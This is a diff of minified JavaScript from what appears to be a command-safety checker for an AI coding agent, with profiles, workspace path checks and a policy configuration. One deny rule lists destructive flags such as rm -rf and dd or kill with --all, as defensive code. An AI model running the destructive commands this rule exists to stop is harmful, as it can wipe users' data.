+flatMap(C=>{const b=Ug(C);return r.filter(y=>y.layer===g&&zg(y.regex,b)).map(({name:y,regex:D,reason:O})=>(0,Oe.gk)("cus\
 tom_pattern",{name:y,pattern:D,reason:O},{layer:g}))}),d=[()=>jN(t,a),()=>c(MN(t,n.mount,o,u)).flatMap(g=>GN(g,o)),()=>u.
-flatMap(UN)];for(const[g,C]of d.entries()){const b=[...C(),...l(g+1)];if(b.length>0)return{findings:[...Gm(b,1),...e.filter(
-Fc)]}}const B=u.map(({read:g})=>g.use),f=new Set(B.flatMap(Rm)),h=[...e,...[...f].map(g=>(0,Oe.gk)(g,{}))],m=mc.options.
-findLast(g=>B.some(C=>C.risk===g));return m===void 0||m==="safe"||h.some(Fc)?{findings:h}:{findings:h,risk:m}}function jg(t,e,n){
-const[s,...r]=t.words,i=vm("workspace",s?.text??"",e),o=i&&!n.includes(i.family.category)?i:void 0;return{command:t,program:o,
-read:Nm(r,o??{})}}function jN({targets:t},e){const n=t.flatMap(({script:s})=>s===void 0?[]:[s]);return[...gs(e).map(s=>Mg(
-s,!0)),...n.flatMap(s=>gs(Jt(s))).map(s=>Mg(s,!1))]}function Mg({name:t,pattern:e,words:n},s){const r=n[0]?.span.start,i=n.
-at(-1)?.span.end,o=s&&r!==void 0&&i!==void 0?{span:{start:r,end:i}}:{};return(0,Oe.gk)(t,{pattern:Hg(e)},o)}const Gg=200;
-function Hg(t){return t.length>Gg?`${t.slice(0,Gg)}\u2026`:t}function MN({command:t},{tree:e,at:n},{cwd:s},r){return e!==
-void 0&&n!=="/"&&n===s&&r.length===1?Qt(Jt(t,e)):r.map(o=>o.command)}function Fc({severity:t}){return t==="error"}function zg({
-program:t,read:e}){const n=t===void 0?[]:e.values;return new Set(n.flatMap(({kind:s,word:r})=>af.has(s)?[]:r))}const Ug=new Map;
-function Jg(t,e){const n=Ug.get(t)??Pg(t);return Ug.set(t,n),"error"in n||n.matches(e)}function Wz(t,e,n){return everyCommand(
-readShellText(t)).some(s=>Jg(e,Zg(jg(s,n,[]))))}function Zg(t){const{words:e,redirections:n}=t.command,s=zg(t);return[...e.
+flatMap(UN)];for(const[g,C]of d.entries()){const b=[...C(),...l(g+1)];if(b.length>0)return{findings:[...jm(b,1),...e.filter(
+Ic)]}}const B=u.map(({read:g})=>g.use),f=new Set(B.flatMap(Im)),h=[...e,...[...f].map(g=>(0,Oe.gk)(g,{}))],m=Bc.options.
+findLast(g=>B.some(C=>C.risk===g));return m===void 0||m==="safe"||h.some(Ic)?{findings:h}:{findings:h,risk:m}}function Lg(t,e,n){
+const[s,...r]=t.words,i=Em("workspace",s?.text??"",e),o=i&&!n.includes(i.family.category)?i:void 0;return{command:t,program:o,
+read:$m(r,o??{})}}function jN({targets:t},e){const n=t.flatMap(({script:s})=>s===void 0?[]:[s]);return[...gs(e).map(s=>Pg(
+s,!0)),...n.flatMap(s=>gs(Zt(s))).map(s=>Pg(s,!1))]}function Pg({name:t,pattern:e,words:n},s){const r=n[0]?.span.start,i=n.
+at(-1)?.span.end,o=s&&r!==void 0&&i!==void 0?{span:{start:r,end:i}}:{};return(0,Oe.gk)(t,{pattern:Mg(e)},o)}const jg=200;
+function Mg(t){return t.length>jg?`${t.slice(0,jg)}\u2026`:t}function MN({command:t},{tree:e,at:n},{cwd:s},r){return e!==
+void 0&&n!=="/"&&n===s&&r.length===1?en(Zt(t,e)):r.map(o=>o.command)}function Ic({severity:t}){return t==="error"}function Gg({
+program:t,read:e}){const n=t===void 0?[]:e.values;return new Set(n.flatMap(({kind:s,word:r})=>nf.has(s)?[]:r))}const Hg=new Map;
+function zg(t,e){const n=Hg.get(t)??Fg(t);return Hg.set(t,n),"error"in n||n.matches(e)}function Wz(t,e,n){return everyCommand(
+readShellText(t)).some(s=>zg(e,Ug(Lg(s,n,[]))))}function Ug(t){const{words:e,redirections:n}=t.command,s=Gg(t);return[...e.
 filter(r=>!s.has(r)).map(({text:r})=>r),...n.map(({operator:r,target:i})=>`${r} ${i?.text??""}`)].join(" ")}function GN(t,e){
-const{words:n,redirections:s,problems:r}=t.command,i=zg(t),o=r.filter(({rule:c})=>c==="variable-expansion"),a=s.flatMap(
+const{words:n,redirections:s,problems:r}=t.command,i=Gg(t),o=r.filter(({rule:c})=>c==="variable-expansion"),a=s.flatMap(
 ({target:c})=>c??[]);return[...n.slice(1).filter(c=>!i.has(c)),...a].flatMap(({text:c,span:u})=>{const l=o.some(({span:d})=>d.
-start>=u.start&&d.end<=u.end);return[c,...HN(c)].flatMap(d=>Kg(d,u,e,l))})}function HN(t){if(!t.startsWith("-"))return[];
-const{attached:e}=ba(t);return[...e?[e]:[],.../^-[^-]./.test(t)?[t.slice(2)]:[]]}function Kg(t,e,n,s=!1){const r=s||t.startsWith(
+start>=u.start&&d.end<=u.end);return[c,...HN(c)].flatMap(d=>Jg(d,u,e,l))})}function HN(t){if(!t.startsWith("-"))return[];
+const{attached:e}=Ca(t);return[...e?[e]:[],.../^-[^-]./.test(t)?[t.slice(2)]:[]]}function Jg(t,e,n,s=!1){const r=s||t.startsWith(
 "~")?void 0:n.locate(t);return r===void 0||!n.isIn(r,n.workspace)?[(0,Oe.gk)("path_outside_workspace",{path:t},{span:e})]:
 t.split(/[\\/]/).includes("..")?[(0,Oe.gk)("path_traversal",{path:t},{span:e})]:[]}const zN=[[/^rm$/,/^-[A-Za-z]*[rRfiI]|^--(?:recursive|interactive|all)$/],
 [/^(?:chmod|chown|dd|kill)$/,/^--all$/],[/^/,/^--force$/]];function UN({command:t,program:e,read:n}){const[s,...r]=t.words;
@@ -6948,32 +6951,32 @@ if(s===void 0)return[];const{text:i}=s,o=zN.flatMap(([u,l])=>u.test(i)?[l]:[]),a
 return a.length>0?a.map(({text:u,span:l})=>(0,Oe.gk)("blocked_flag",{program:i,flag:u},{span:l})):r.length===1&&e&&/^--(?:version|help)$/.
 test(r[0]?.text??"")?[]:(e?n.objections:[{objection:"is not allowed",word:s}]).map(({objection:u,word:l=s})=>(0,Oe.gk)("\
 command_not_allowed",{program:i,objection:u},{span:l.span}))}function JN({command:t},e,n){const s=e.filter(({rule:a})=>(0,Zn.
-Y)(a).anyText===!0),r=FN(t),[i]=r?.args??[];if(r?.name!=="write_file"||i===void 0){const a=Hg(r?.name??t);return{findings:[
+Y)(a).anyText===!0),r=FN(t),[i]=r?.args??[];if(r?.name!=="write_file"||i===void 0){const a=Mg(r?.name??t);return{findings:[
 (0,Oe.gk)("command_not_allowed",{program:a,objection:"is not a call of a file tool with literal arguments"}),...s]}}const o=[
-...Kg(i.text,i.span,new Dc(n)),...s];return o.some(Fc)?{findings:o}:{findings:o,risk:"write"}}function ZN(t,e,n){const s=Hm(
-t),r=c=>QN[c](t,s,n),i=r("evolver"),o=r("validator"),a={evolver:i,validator:o}[e]??r(e);return Lc(t,e,a,{evolver:i,validator:o})}
-function KN(t,e){const n=e.find(({args:r})=>r.of==="newer");return{"1.94":t,newer:n?{verdict:"block",reason:n}:t}}function WN(t,e,n){
-const s={findings:Pc(Hm(t))},r={evolver:s,validator:s};return Lc(t,"curated",Km(e,n),r)}function qN(t,e,n){const s=typeof t==
-"string"?t:"",r=[(0,Oe.be)(`the command \`${s}\``,n)];return Lc({command:s,words:[],assignments:[],argv:null,targets:[],
-problems:[]},e,{findings:r},{evolver:{findings:r},validator:{findings:r}})}function Lc(t,e,n,s){const r=VN(t,Pc(n.findings)),
-i=Wg(r),o=c=>c===n?i:Wg(Pc(c.findings)),a=o(s.validator);return{reading:t,verdict:i.verdict,risk:n.risk??XN(i.verdict,r),
+...Jg(i.text,i.span,new _c(n)),...s];return o.some(Ic)?{findings:o}:{findings:o,risk:"write"}}function ZN(t,e,n){const s=Mm(
+t),r=c=>QN[c](t,s,n),i=r("evolver"),o=r("validator"),a={evolver:i,validator:o}[e]??r(e);return $c(t,e,a,{evolver:i,validator:o})}
+function KN(t,e){const n=e.find(({args:r})=>r.of==="newer");return{"1.94":t,newer:n?{verdict:"block",reason:n}:t}}function qN(t,e,n){
+const s={findings:Rc(Mm(t))},r={evolver:s,validator:s};return $c(t,"curated",Jm(e,n),r)}function WN(t,e,n){const s=typeof t==
+"string"?t:"",r=[(0,Oe.be)(`the command \`${s}\``,n)];return $c({command:s,words:[],assignments:[],argv:null,targets:[],
+problems:[]},e,{findings:r},{evolver:{findings:r},validator:{findings:r}})}function $c(t,e,n,s){const r=VN(t,Rc(n.findings)),
+i=Zg(r),o=c=>c===n?i:Zg(Rc(c.findings)),a=o(s.validator);return{reading:t,verdict:i.verdict,risk:n.risk??XN(i.verdict,r),
 confirmation:n.confirmation??"standard",findings:r,profiles:{evolver:o(s.evolver),validator:a,[e]:i},validators:KN(a,s.validator.
-findings)}}function VN({command:t},e){const n=e[0]?.severity==="error"?Tm(t):void 0;return n===void 0?e:e.map(s=>s.severity===
-"error"?{...s,harm:"danger",danger:n}:s)}function Wg(t){const e=YN(t),[n]=t;if(e==="block"&&n)return{verdict:e,reason:n};
+findings)}}function VN({command:t},e){const n=e[0]?.severity==="error"?Am(t):void 0;return n===void 0?e:e.map(s=>s.severity===
+"error"?{...s,harm:"danger",danger:n}:s)}function Zg(t){const e=YN(t),[n]=t;if(e==="block"&&n)return{verdict:e,reason:n};
 const s=t.find(({rule:r})=>r==="validator-empty-folder");return s?{verdict:e,remark:s}:{verdict:e}}function YN(t){return t.
 some(({severity:n})=>n==="error")?"block":t.some(({severity:n,rule:s})=>n==="warning"&&s!=="experimental_mode")?"warn":"\
-allow"}function XN(t,e){return t==="block"?"dangerous":e.some(({rule:n})=>(0,Zn.Y)(n).writes===!0)?"write":"safe"}function Pc(t){
-return oD.flatMap(e=>t.filter(({severity:n})=>n===e))}const QN={evolver:aN,validator:lN,curated:zm,workspace:LN},eF=4e3;
+allow"}function XN(t,e){return t==="block"?"dangerous":e.some(({rule:n})=>(0,Zn.Y)(n).writes===!0)?"write":"safe"}function Rc(t){
+return rD.flatMap(e=>t.filter(({severity:n})=>n===e))}const QN={evolver:aN,validator:lN,curated:Gm,workspace:LN},eF=4e3;
 class ar{terms;context;clock;#e=new Map;#t=new Map;constructor(e,n,s){this.terms=e,this.context=n,this.clock=s}static by(e){
-const n=vc(e,{});return new ar(e,n,e.clock??new R$(e.signal))}with(e){const n={...this.terms,...e},s=vc(n,this.context.proposal);
-return new ar(n,s,this.clock)}proposed(e){return new ar(this.terms,vc(this.terms,e),this.clock)}storeOf(e){const{cwd:n}=this.
-terms,s=rf(e,this.terms);return n===void 0?s:{...s,root:n}}forFile(e){return this.startingIn(this.storeOf(e).root)}startingIn(e){
+const n=bc(e,{});return new ar(e,n,e.clock??new _$(e.signal))}with(e){const n={...this.terms,...e},s=bc(n,this.context.proposal);
+return new ar(n,s,this.clock)}proposed(e){return new ar(this.terms,bc(this.terms,e),this.clock)}storeOf(e){const{cwd:n}=this.
+terms,s=ef(e,this.terms);return n===void 0?s:{...s,root:n}}forFile(e){return this.startingIn(this.storeOf(e).root)}startingIn(e){
 if(e===(this.terms.cwd??""))return this;const n=this.#t.get(e)??this.with({cwd:e});return this.#t.set(e,n),n}command(e){
 const n=this.#e.get(e);if(n!==void 0)return n;const s=this.#s(e);this.#e.set(e,s);const[r]=this.#e.keys();return this.#e.
-size>eF&&this.#e.delete(r),s}async risk(e,n){return WN(await this.#i(n),e,this.context)}async#s(e){const{profile:n}=this.
-terms.policy;try{return ZN(await this.#i(e),n,this.context)}catch(s){return qN(e,n,s)}}async#i(e){const{tree:n,base:s,changed:r,
-cwd:i="",policy:o}=this.terms,{clock:a}=this,c=xm(o),{areBuilt:u}=RR(o),l={...n&&{tree:n},...s&&{base:s},changed:r,cwd:i,
-programs:c,isOutput:u,clock:a};return await a.tick(),g$(e,l)}}function tF(t){return t==="darwin"||t==="win32"?t:"linux"}
+size>eF&&this.#e.delete(r),s}async risk(e,n){return qN(await this.#i(n),e,this.context)}async#s(e){const{profile:n}=this.
+terms.policy;try{return ZN(await this.#i(e),n,this.context)}catch(s){return WN(e,n,s)}}async#i(e){const{tree:n,base:s,changed:r,
+cwd:i="",policy:o}=this.terms,{clock:a}=this,c=vm(o),{areBuilt:u}=RR(o),l={...n&&{tree:n},...s&&{base:s},changed:r,cwd:i,
+programs:c,isOutput:u,clock:a};return await a.tick(),i$(e,l)}}function tF(t){return t==="darwin"||t==="win32"?t:"linux"}
 const Ri=JSON.parse('{"extends":null,"profile":"evolver","mode":"write","allow_dangerous":false,"allowed_roots":[],"work\
 space":".","disabled_packs":[],"experimental":[],"programs":[],"tool_flags":{},"make_variables":[],"families":[],"patter\
 ns":[],"approvals":{"strong":1,"very_strong":2,"gate":1,"people":[],"unaffected_by":[]},"fail_on":"error","enforce":"blo\
@@ -6987,29 +6990,29 @@ s":17179869184,"processes":1024,"open_files":4096,"file_bytes":4294967296,"writt
 ounting":"full","hard_cap_files":60,"hard_cap_lines":20000,"forbidden_paths":[],"protected_paths":[],"audit_log":"append\
 "},"agent_files":{"level":"warn","include":["**"],"exclude":[]},"a2a":{"min_score":0.7,"max_files":5,"max_lines":200,"mi\
 n_success_streak":2,"confidence_factor":0.6,"require_evidence":"gate","evidence_app":"github-actions","attestation":[]},\
-"ignores":[],"branches":{}}'),qz="sha256:2ca6945ae04d502eca4015fbc966b188a8d207a7a6cf1644056935b5b1eb611e",nF=["evolver",
+"ignores":[],"branches":{}}'),Vz="sha256:2ca6945ae04d502eca4015fbc966b188a8d207a7a6cf1644056935b5b1eb611e",nF=["evolver",
 "validator"],sF=[...nF,"curated","workspace"];var Pt=Te(581);function rF(t,e="the given files"){const n=new Map(Object.entries(
 t)),s=i=>{const o=n.get(i);return typeof o=="string"?Buffer.from(o):Buffer.isBuffer(o)?o:o!==void 0&&"executable"in o?Buffer.
-from(o.executable):void 0};return{...S0([...n].map(([i,o])=>iF(i,o,s(i)?.length))),label:e,readlink:i=>{const o=n.get(i);
-return typeof o=="object"&&"symlink"in o?o.symlink:void 0},read:async i=>{const o=s(i);if(o===void 0)throw T0(e,i);return o}}}
+from(o.executable):void 0};return{...O0([...n].map(([i,o])=>iF(i,o,s(i)?.length))),label:e,readlink:i=>{const o=n.get(i);
+return typeof o=="object"&&"symlink"in o?o.symlink:void 0},read:async i=>{const o=s(i);if(o===void 0)throw A0(e,i);return o}}}
 function iF(t,e,n){const s=!t.split("/").includes("node_modules");if(typeof e=="object"&&"symlink"in e)return{path:t,kind:"\
 symlink",tracked:s};if(typeof e=="object"&&"submodule"in e)return{path:t,kind:"submodule",oid:e.submodule,tracked:s};const r=typeof e==
-"object"&&"executable"in e;return{path:t,kind:r?"executable":"file",...n===void 0?{}:{size:n},tracked:s}}const qg="scrip\
-ts/validate",oF=[16,64];class Vg{#e;#t=new Map;#s;#i;#r;constructor(e){const{tree:n,cwd:s=""}=e.terms;this.#e=n,this.#s=
+"object"&&"executable"in e;return{path:t,kind:r?"executable":"file",...n===void 0?{}:{size:n},tracked:s}}const Kg="scrip\
+ts/validate",oF=[16,64];class qg{#e;#t=new Map;#s;#i;#r;constructor(e){const{tree:n,cwd:s=""}=e.terms;this.#e=n,this.#s=
 s,this.#i=e,this.#r=n&&jn(n,s)}get judge(){return this.#i}get tree(){return this.#r}pathOf(e){return ie.posix.join(this.#s,
 e)}textOf(e){return this.#t.get(e)}async place(e){const n=this.#e;if(n===void 0)return;const s=(0,to.createHash)("sha256").
-update(e).digest("hex");for(const r of oF){const i=`${qg}/eval-${s.slice(0,r)}.cjs`,o=this.pathOf(i);if(!Yo(o).every(l=>(n.
+update(e).digest("hex");for(const r of oF){const i=`${Kg}/eval-${s.slice(0,r)}.cjs`,o=this.pathOf(i);if(!Yo(o).every(l=>(n.
 stat(l)?.kind??"directory")==="directory"))return;const c=n.stat(o);if(c===void 0)return this.#n(o,e,n),i;if(lt(c.kind)&&
 c.tracked&&(await n.read(o)).equals(Buffer.from(e)))return i}}#n(e,n,s){if(this.#t.has(e))return;this.#t.set(e,n);const r=aF(
 s,Object.fromEntries(this.#t));this.#i=this.#i.with({tree:r}),this.#r=jn(r,this.#s)}}function aF(t,e){const n=rF(e),s=(r,i)=>[
-...r,...[...i].filter(({path:o})=>t.stat(o)===void 0)].sort(sf);return{label:t.label,original:t,stat:r=>t.stat(r)??n.stat(
+...r,...[...i].filter(({path:o})=>t.stat(o)===void 0)].sort(QB);return{label:t.label,original:t,stat:r=>t.stat(r)??n.stat(
 r),readlink:r=>t.readlink(r),read:(r,i)=>r in e?n.read(r,i):t.read(r,i),list:r=>s(t.list(r),n.list(r)),files:()=>s(t.files(),
-n.files())}}function or(t,{start:e,end:n},s){return t.slice(0,e)+s+t.slice(n)}function jc(t,{start:e,end:n}){const s=t.slice(
-0,e).replace(/[ \t]+$/,"");return s===""?t.slice(n).replace(/^[ \t]+/,""):s+t.slice(n)}function Zt(...t){return{step:"co\
-mmand suggested",commands:t}}function Mc({problems:t},e=[]){return t.some(({rule:n,severity:s})=>s==="error"&&(0,Zn.Y)(n).
+n.files())}}function or(t,{start:e,end:n},s){return t.slice(0,e)+s+t.slice(n)}function Nc(t,{start:e,end:n}){const s=t.slice(
+0,e).replace(/[ \t]+$/,"");return s===""?t.slice(n).replace(/^[ \t]+/,""):s+t.slice(n)}function Kt(...t){return{step:"co\
+mmand suggested",commands:t}}function Fc({problems:t},e=[]){return t.some(({rule:n,severity:s})=>s==="error"&&(0,Zn.Y)(n).
 layer==="syntax"&&!e.includes(n))}const cF=async(t,e)=>{const n=BF(t);if(n===void 0||"reason"in n)return n;const{scriptText:s}=await Promise.
 all([Te.e(559),Te.e(442)]).then(Te.bind(Te,61)),r=s(n.evaluation.code);if(typeof r!="string")return r;const i=await e.place(
-r);return i===void 0?{reason:Pt.Ot.noPlace(qg)}:{step:"code moved into a script",commands:[n.evaluation.withScript(i)],scripts:[
+r);return i===void 0?{reason:Pt.Ot.noPlace(Kg)}:{step:"code moved into a script",commands:[n.evaluation.withScript(i)],scripts:[
 i]}},uF=["line-break","blank-padding","markup-injection"],lF=new Set(["--eval","--print"]),dF=/strip-types|transform-types|detect-module|^--test/;
 function BF(t){const{invocation:e,command:n,assignments:s}=t;if(e?.program!=="node")return;const r=e.flags.filter(({name:f})=>lF.
 has(f));if(r.length===0)return;if(!fF(t))return{reason:Pt.Ot.codeNotMoved("a shell would change it before `node` gets it")};
@@ -7018,8 +7021,8 @@ const[i,...o]=r;if(i?.value===void 0||i.name!=="--eval"||o.length>0)return{reaso
 `\`${c.written}\` changes how \`node\` runs it`)};const u=({start:f,end:h})=>n.slice(f,h),l=e.passthrough.at(-1),d=e.passthrough.
 slice(0,1).map(({span:f})=>u({start:f.start,end:l?.span.end??f.end})),B=[...s.map(({span:f})=>u(f)),"node"];return{evaluation:{
 code:i.value,withScript:f=>[...B,...a.map(({span:h})=>u(h)),f,...d].join(" ")}}}function fF(t){const{command:e,words:n,assignments:s}=t;
-if(Mc(t,uF))return!1;let r=0;for(const{span:i}of[...s,...n]){if(i.start>r&&!/^[ \t]*$/.test(e.slice(r,i.start)))return!1;
-r=Math.max(r,i.end)}return/^[ \t]*$/.test(e.slice(r))}function hF({name:t}){return ya.get(t.replace(/^--(?:no-)?/,""))?.
+if(Fc(t,uF))return!1;let r=0;for(const{span:i}of[...s,...n]){if(i.start>r&&!/^[ \t]*$/.test(e.slice(r,i.start)))return!1;
+r=Math.max(r,i.end)}return/^[ \t]*$/.test(e.slice(r))}function hF({name:t}){return ma.get(t.replace(/^--(?:no-)?/,""))?.
 kind==="harmless"&&!dF.test(t)}var pF=Te(442);const mF=new Set("target-outside tilde-expansion variable-expansion comman\
 d-substitution".split(" ")),gF=({command:t,words:e,invocation:n,problems:s},{tree:r})=>{if(n?.program!=="node"||r===void 0)
 return;const i=s.filter(({rule:o})=>mF.has(o));for(const{text:o,span:a}of e.slice(1)){if(!i.some(({span:{start:m}})=>m>=
@@ -7028,102 +7031,102 @@ const l=/^[\w./@-]+$/.test(u)?u:(0,pF.f)(u),d=t.slice(0,a.start)+l,B=t.slice(a.e
 void 0,h=f===void 0?B:B.replaceAll(` ${f}`," ");return{step:"path made relative",commands:[d+h]}}};function CF(t,e){const n=e.
 split(/[\\/]/).filter(r=>r!==""&&r!==".");return n.map((r,i)=>xe(n.slice(i).join("/"))).slice(1).find(r=>{const i=r===void 0||
 r===""?void 0:Ve(t,r);return i?.kind==="inside"&&i.entry.tracked&&lt(i.entry.kind)})}const yF=/^(?:.*\/)?node_modules\/\.bin\/([\w.-]+)$/,
-wF=/^(?:[A-Za-z]:)?[\\/](?:.*[\\/])?(node|npm|npx)(?:\.exe|\.cmd)?$/,bF=t=>{const e=Yg(t,"program-by-path");if(e===void 0)
-return;const{program:n}=e.args,[,s]=yF.exec(n)??[];if(s!==void 0)return Gc(t,e,`npx ${s}`);const[,r]=wF.exec(n)??[];return r===
-void 0?void 0:Gc(t,e,r)},_F=t=>{const e=Yg(t,"program-look-alike");return e&&Gc(t,e,e.args.meant)};function Yg({problems:t},e){
-return t.find(n=>Dn(n,e))}function Gc({command:t},{span:e},n){return{step:"program name corrected",commands:[or(t,e,n)]}}
-const EF=["shell-grammar","unquoted-glob"],Xg={command:()=>0,env:()=>0,exec:()=>0,nice:t=>Qg(t,/^-n-?\d+$/,/^-n$/),nohup:()=>0,
-time:()=>0,timeout:t=>Qg(t,/^(?:--preserve-status|--foreground|--(?:signal|kill-after)=\S+)$/,/^-[ks]$/)+1},kF=/^(?:-[aeilux]*c|\/[cC])$/,
-vF=/^(?:-[aeilux]+|--?(?:login|norc|noprofile|posix))$/,DF=t=>{const{command:e,words:n}=t,[s,...r]=n;if(s===void 0||Mc(t,
-EF))return;const i=s.text.replace(/^(?:\/[\w.-]+)+\//,"").replace(/\.exe$/i,""),o=ei(i)?xF(r):void 0;if(o!==void 0)return{
-step:"launcher removed",commands:[o]};const a=Object.hasOwn(Xg,i)?Xg[i]?.(r.map(({text:l})=>l)):void 0,c=a===void 0?void 0:
+wF=/^(?:[A-Za-z]:)?[\\/](?:.*[\\/])?(node|npm|npx)(?:\.exe|\.cmd)?$/,bF=t=>{const e=Wg(t,"program-by-path");if(e===void 0)
+return;const{program:n}=e.args,[,s]=yF.exec(n)??[];if(s!==void 0)return Lc(t,e,`npx ${s}`);const[,r]=wF.exec(n)??[];return r===
+void 0?void 0:Lc(t,e,r)},_F=t=>{const e=Wg(t,"program-look-alike");return e&&Lc(t,e,e.args.meant)};function Wg({problems:t},e){
+return t.find(n=>Dn(n,e))}function Lc({command:t},{span:e},n){return{step:"program name corrected",commands:[or(t,e,n)]}}
+const EF=["shell-grammar","unquoted-glob"],Vg={command:()=>0,env:()=>0,exec:()=>0,nice:t=>Yg(t,/^-n-?\d+$/,/^-n$/),nohup:()=>0,
+time:()=>0,timeout:t=>Yg(t,/^(?:--preserve-status|--foreground|--(?:signal|kill-after)=\S+)$/,/^-[ks]$/)+1},kF=/^(?:-[aeilux]*c|\/[cC])$/,
+vF=/^(?:-[aeilux]+|--?(?:login|norc|noprofile|posix))$/,DF=t=>{const{command:e,words:n}=t,[s,...r]=n;if(s===void 0||Fc(t,
+EF))return;const i=s.text.replace(/^(?:\/[\w.-]+)+\//,"").replace(/\.exe$/i,""),o=Qr(i)?xF(r):void 0;if(o!==void 0)return{
+step:"launcher removed",commands:[o]};const a=Object.hasOwn(Vg,i)?Vg[i]?.(r.map(({text:l})=>l)):void 0,c=a===void 0?void 0:
 r[a];return c===void 0?void 0:{step:"launcher removed",commands:[e.slice(0,s.span.start)+e.slice(c.span.start)]}};function xF(t){
 const[e,n]=t.slice(t.findIndex(s=>!vF.test(s.text)));if(!(e===void 0||!kF.test(e.text)))return n===t.at(-1)&&n?.text.trim()?
-n.text.trim():void 0}function Qg(t,e,n){let s=0;for(;;){const r=t[s]??"";if(n?.test(r))s+=2;else if(e.test(r))s+=1;else return s}}
+n.text.trim():void 0}function Yg(t,e,n){let s=0;for(;;){const r=t[s]??"";if(n?.test(r))s+=2;else if(e.test(r))s+=1;else return s}}
 const OF=({command:t})=>{const e=t.replace(/^[ \t\r\n]+/,"").replace(/[ \t\r\n]+$/,"");return e===""||e===t?void 0:{step:"\
 whitespace trimmed",commands:[e]}},AF=/(?:[ \t]+(?:2>[ \t]*&1|[12]?>[ \t]*\/dev\/null))+[ \t]*$/,SF=({command:t,problems:e})=>{
 const s=e.some(({rule:r})=>r==="shell-redirection")?t.replace(AF,""):t;if(!(s===t||un(s).problems.length>0))return{step:"\
 redirection removed",commands:[s]}},TF=({command:t,problems:e})=>{for(const{rule:n,span:s}of e){const r=t.slice(s.end).trim()===
 "";if(n==="shell-comment"&&!/[\r\n]/.test(t.slice(s.start))||n==="shell-operator"&&r&&t.slice(s.start,s.end)===";")return{
-step:"comment removed",commands:[jc(t,s)]};if(n==="line-continuation")return{step:"whitespace trimmed",commands:[or(t,s,
-"")]}}},IF=new Set(["echo","printf","true",":","pwd","date"]),$F=t=>IF.has(t.words[0]?.text??"")&&!Mc(t)?{reason:Pt.Ot.cannotFail()}:
-void 0,RF=({command:t,problems:e})=>{if(Hc(t).some(({text:s})=>/^\(?cd(?:[ \t]|$)/.test(s)))return{reason:Pt.Ot.changesDirectory()};
-if(!e.some(({rule:s})=>s==="shell-operator"))return;const n=eC(t);return n&&{step:"split at &&",commands:n.map(({text:s})=>s)}};
-function Hc(t){const e=Jt(t);return t.slice(0,e[0]?.span.start).trim()!==""?[]:e.map(({span:n,separator:s})=>({text:t.slice(
-n.start,n.end).trim(),operator:s.trim()}))}function eC(t){const e=Hc(t),n=e.every(({operator:s},r)=>s===(e[r+1]?"&&":""));
+step:"comment removed",commands:[Nc(t,s)]};if(n==="line-continuation")return{step:"whitespace trimmed",commands:[or(t,s,
+"")]}}},IF=new Set(["echo","printf","true",":","pwd","date"]),$F=t=>IF.has(t.words[0]?.text??"")&&!Fc(t)?{reason:Pt.Ot.cannotFail()}:
+void 0,RF=({command:t,problems:e})=>{if(Pc(t).some(({text:s})=>/^\(?cd(?:[ \t]|$)/.test(s)))return{reason:Pt.Ot.changesDirectory()};
+if(!e.some(({rule:s})=>s==="shell-operator"))return;const n=Xg(t);return n&&{step:"split at &&",commands:n.map(({text:s})=>s)}};
+function Pc(t){const e=Zt(t);return t.slice(0,e[0]?.span.start).trim()!==""?[]:e.map(({span:n,separator:s})=>({text:t.slice(
+n.start,n.end).trim(),operator:s.trim()}))}function Xg(t){const e=Pc(t),n=e.every(({operator:s},r)=>s===(e[r+1]?"&&":""));
 return e.length>1&&n?e:void 0}const NF=/^(?:tee|cat|head|tail|less|more|grep|sort|wc)(?:[ \t]|$)/,FF=/^(?:true|:|echo(?:[ \t].*)?|exit[ \t]+0)$/,
-LF=8,PF=({command:t,problems:e})=>{if(!e.some(({rule:r})=>r==="shell-operator"||r==="line-break"))return;const n=Hc(t);if(n.
+LF=8,PF=({command:t,problems:e})=>{if(!e.some(({rule:r})=>r==="shell-operator"||r==="line-break"))return;const n=Pc(t);if(n.
 length===0||n.length>LF)return;const s=[];for(const[r,{text:i}]of n.entries()){const o=n[r-1]?.operator??"",a=o==="||"&&
 FF.test(i),c=/^\|&?$/.test(o)&&NF.test(i);if(!(a||c)){if(!/^(?:|&&|[;\n]*)$/.test(o)||i.startsWith("cd "))return;s.push(
-i)}}if(/^[&;\s]*$/.test(n.at(-1)?.operator??"")&&!(s.length===0||s.join()===t))return Zt(...s)},jF=/^(?:npm|pnpm|yarn|bun)[ \t]+(?:ci|i|install)(?:[ \t]+-\S+)*$|^yarn$/,
-MF=/^set[ \t]+-[a-z]+(?:[ \t]+pipefail)?$/,GF=({command:t})=>{const e=eC(t)?.map(({text:s})=>s),n=e?.filter(s=>!jF.test(
-s)&&!MF.test(s))??[];if(!(e===void 0||n.length===0||n.length===e.length))return Zt(...n)},HF=/[ \t]+(?:[12&]?>>?[ \t]*[\w./-]+|2>[ \t]*&1|<[ \t]*\/dev\/null)(?=[ \t]|$)/g,
+i)}}if(/^[&;\s]*$/.test(n.at(-1)?.operator??"")&&!(s.length===0||s.join()===t))return Kt(...s)},jF=/^(?:npm|pnpm|yarn|bun)[ \t]+(?:ci|i|install)(?:[ \t]+-\S+)*$|^yarn$/,
+MF=/^set[ \t]+-[a-z]+(?:[ \t]+pipefail)?$/,GF=({command:t})=>{const e=Xg(t)?.map(({text:s})=>s),n=e?.filter(s=>!jF.test(
+s)&&!MF.test(s))??[];if(!(e===void 0||n.length===0||n.length===e.length))return Kt(...n)},HF=/[ \t]+(?:[12&]?>>?[ \t]*[\w./-]+|2>[ \t]*&1|<[ \t]*\/dev\/null)(?=[ \t]|$)/g,
 zF=({command:t,problems:e})=>{if(!e.some(({rule:s})=>s==="shell-redirection"))return;const n=t.replace(HF,"");return n===
-t?void 0:Zt(n)},UF=t=>{const{command:e,problems:n,invocation:s}=t;for(const{rule:r,span:i}of n){if(!(0,Zn.Y)(r).removable||
+t?void 0:Kt(n)},UF=t=>{const{command:e,problems:n,invocation:s}=t;for(const{rule:r,span:i}of n){if(!(0,Zn.Y)(r).removable||
 e[i.start]!=="-")continue;const o=e.slice(i.start,i.end),a=e.slice(i.end).trimStart(),c=!/[=\s]/.test(o)&&a!==""&&!a.startsWith(
-"-"),u=s?.flags.some(l=>l.span.start===i.start)===!0;if(!(c&&!u))return Zt(jc(e,i))}},JF=({command:t,problems:e,invocation:n})=>{
+"-"),u=s?.flags.some(l=>l.span.start===i.start)===!0;if(!(c&&!u))return Kt(Nc(e,i))}},JF=({command:t,problems:e,invocation:n})=>{
 const s=e.find(a=>Dn(a,"unknown-flag")),r=n?.program==="npm"&&n.subcommand!=="exec";if(s===void 0||!r||n.passthrough.length>
